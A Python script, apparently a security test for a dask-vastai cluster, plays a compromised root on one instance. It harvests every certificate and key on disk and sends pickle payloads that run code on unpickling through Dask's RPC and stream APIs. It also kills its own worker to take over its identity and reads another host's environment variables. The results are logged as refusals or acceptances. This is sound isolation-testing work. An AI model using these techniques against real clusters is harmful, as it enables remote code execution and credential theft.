"""What root inside instance A tries against the rest of the cluster (run there over SSH).

``python hostile_host.py '<json>'`` with the scheduler's address, A's name, addresses and B's
address, and a marker path on the user's machine. It uses everything A holds (every
certificate and key on its disk, every port listening in it) and only distributed's own
APIs, and prints one JSON line per attempt: ``{"attempt": ..., "outcome": "refused: ..." or
"ACCEPTED: ..."}``. A marker directory appears where an attempt ran code: ``LAPTOP`` on the
user's machine, ``/root/pwned-by-a`` on B. Standard library and distributed only.
"""

import asyncio
import json
import os
import signal
import ssl
import sys
import time

from distributed import Worker
from distributed.comm import connect
from distributed.core import rpc
from distributed.protocol import ToPickle
from distributed.protocol.pickle import dumps
from distributed.security import Security

CFG = json.loads(sys.argv[1])
SCHEDULER, B = CFG["scheduler"], CFG["b_address"]
ON_B = "/root/pwned-by-a"
REPORT = []


class Bomb:
    """Runs ``mkdir`` wherever it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


def on_laptop():
    os.mkdir(CFG["laptop_marker"])


def on_b():
    os.mkdir(ON_B)
    return dict(os.environ)


def say(attempt, outcome):
    REPORT.append({"attempt": attempt, "outcome": outcome})


async def attempt(name, coro):
    try:
        result = await asyncio.wait_for(coro, 8)
    except Exception as e:  # noqa: BLE001 - any error is a refusal, recorded with its text
        say(name, f"refused: {type(e).__name__}: {str(e)[:160]}")
    else:
        say(name, f"ACCEPTED: {str(result)[:200]}")


def pem_files():
    """Every certificate and private key on this instance's own disk (not the interpreter's files)."""
    certs, keys = [], []
    skip = os.path.realpath(sys.prefix).split(os.sep)[:3]  # /root/.pyenv: the image's Python
    for top in ("/root", "/workspace", "/tmp", "/var", "/run"):
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if os.path.join(folder, d).split(os.sep)[:3] != skip]
            for f in files:
                path = os.path.join(folder, f)
                try:
                    if os.path.getsize(path) > 1 << 20:
                        continue
                    with open(path, errors="ignore") as fh:
                        text = fh.read()
                except OSError:
                    continue
                if "-----BEGIN CERTIFICATE-----" in text:
                    certs.append(path)
                if "-----BEGIN PRIVATE KEY-----" in text or "-----BEGIN EC PRIVATE KEY-----" in text:
                    keys.append(path)
    return certs, keys


def contexts():
    """A TLS context per usable (certificate, key) pair, plus one presenting nothing."""
    certs, keys = pem_files()
    out = []
    for cert in certs:
        for key in keys:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
            try:
                ctx.load_cert_chain(cert, key)
            except (ssl.SSLError, OSError, ValueError):
                continue
            out.append((f"{cert} + {key}", ctx))
    bare = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    bare.check_hostname, bare.verify_mode = False, ssl.CERT_NONE
    return out + [("no certificate", bare)]


def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


async def every_port(ctxs):
    for port in listening_ports():
        address = f"tls://127.0.0.1:{port}"
        for label, ctx in ctxs:
            args = {"ssl_context": ctx}
            where = f"port {port} with {label}"
            async with rpc(address, connection_args=args, timeout=5) as r:
                await attempt(f"run_function on {where}", r.run_function(function=dumps(on_laptop)))
                await attempt(f"run_function(ToPickle bomb) on {where}",
                              r.run_function(function=ToPickle(Bomb(CFG["laptop_marker"]))))
            async with rpc(address, connection_args=args, timeout=5) as r:
                await attempt(f"run on {where}", r.run(function=dumps(on_b)))


async def stream_then_read(address, ctx, first, batch):
    comm = await connect(address, ssl_context=ctx, timeout=5)
    try:
        await comm.write(first)
        await comm.write(batch)
        response = await comm.read()
        if isinstance(response, dict) and response.get("status") in ("error", "uncaught-error"):
            raise PermissionError(response.get("exception_text") or response)
        return response
    finally:
        comm.abort()


class OwnWorker(Worker):
    """A's worker as the attacker runs it: it takes (and ignores) what the scheduler streams to
    dask-vastai's workers (the live-worker list), where distributed's own would drop the stream."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.stream_handlers["dask-vastai-peers"] = lambda **_: None


def kill_own_workers():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"distributed.cli.dask_worker" in f.read():
                    os.killpg(os.getpgid(int(pid)), signal.SIGKILL)
        except OSError:
            pass


async def own_stream(ca, cert, key):
    """Take A's name on the scheduler (A's worker killed), then abuse that worker stream."""
    kill_own_workers()
    security = Security(require_encryption=True, tls_ca_file=ca, tls_worker_cert=cert, tls_worker_key=key)
    port = int(CFG["a_address"].rsplit(":", 1)[1])
    worker = None
    deadline = time.monotonic() + 60
    while worker is None and time.monotonic() < deadline:
        try:  # until the scheduler has let go of A's killed worker
            worker = await asyncio.wait_for(OwnWorker(
                SCHEDULER, name=CFG["a_name"], security=security, host="127.0.0.1", port=port,
                contact_address=CFG["a_address"], nthreads=1, dashboard=False, death_timeout=5,
            ), 15)
        except Exception as e:  # noqa: BLE001
            say("re-register as A (retrying)", f"refused: {type(e).__name__}: {str(e)[:100]}")
            await asyncio.sleep(1)
    if worker is None:
        say("A's own registered worker stream", "refused: could not register as A")
        return
    say("re-register as A with A's own certificate", "ACCEPTED (expected: it is A's identity)")
    worker.batched_stream.send({"op": "worker-status-change", "status": "paused", "worker": B, "stimulus_id": "a"})
    await asyncio.sleep(1.5)
    worker.batched_stream.send({"op": "update-graph", "graph": ToPickle(Bomb(CFG["laptop_marker"])),
                                "keys": ["attack"], "client": "attacker", "stimulus_id": "a"})
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and not worker.batched_stream.comm.closed():  # noqa: ASYNC110 - polls the comm
        await asyncio.sleep(0.2)
    say("update-graph on A's own worker stream",
        "refused: the scheduler closed the stream" if worker.batched_stream.comm.closed()
        else "ACCEPTED: the stream stayed open")
    await worker.close(nanny=False, executor_wait=False)


async def main():
    ctxs = contexts()
    say("credentials found", f"ACCEPTED (information): {[label for label, _ in ctxs]}")
    await every_port(ctxs)
    own = [(label, ctx) for label, ctx in ctxs if label != "no certificate"]
    for label, ctx in own:
        await attempt(f"register-client + update-graph with {label}", stream_then_read(
            SCHEDULER, ctx, {"op": "register-client", "client": "attacker", "reply": False},
            {"op": "update-graph", "graph": ToPickle(Bomb(CFG["laptop_marker"])), "keys": ["x"]}))
        async with rpc(SCHEDULER, connection_args={"ssl_context": ctx}, timeout=5) as s:
            await attempt(f"unregister B with {label}", s.unregister(address=B, stimulus_id="attack"))
        await attempt(f"connection_stream + compute-task on B with {label}", stream_then_read(
            B, ctx, {"op": "connection_stream"},
            [{"op": "compute-task", "key": "attack", "run_spec": ToPickle(Bomb(ON_B)), "stimulus_id": "a"}]))
        async with rpc(B, connection_args={"ssl_context": ctx}, timeout=5) as b:
            await attempt(f"run on B with {label}", b.run(function=dumps(on_b)))
    folder = os.path.dirname(CFG["a_cert"])
    await own_stream(f"{folder}/ca.pem", f"{folder}/cert.pem", f"{folder}/key.pem")
    for item in REPORT:
        print(json.dumps(item), flush=True)


asyncio.run(main())
